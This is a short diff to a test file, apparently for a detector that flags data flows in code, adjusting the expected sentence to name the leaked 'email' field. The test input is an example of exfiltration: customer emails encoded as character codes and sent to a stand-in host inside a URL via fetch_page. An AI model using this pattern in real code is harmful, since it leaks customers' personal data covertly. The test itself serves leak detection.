@@ -82,8 +82,8 @@ def test_the_sentence_names_the_answer_the_tool_and_the_argument() -> None:
         "for c in rows:\n    await fetch_page(url='https://m/' + '-'.join(str(ord(x)) for x in c['email']))"
     )
     sends = (
-        "Sends data of up to 3 customers (demo.list_customers, line 5) to m, inside the URL, through demo.fetch_page, "
-        "once per customer."
+        "Sends the “email” of up to 3 customers (demo.list_customers, line 5) to m, inside the URL, through "
+        "demo.fetch_page, once per customer."
     )
     assert verdict.sentence.startswith(sends)
     assert ("demo.list_customers", 5, "demo.fetch_page.url") in [(f.source, f.line, f.sink) for f in verdict.flows]
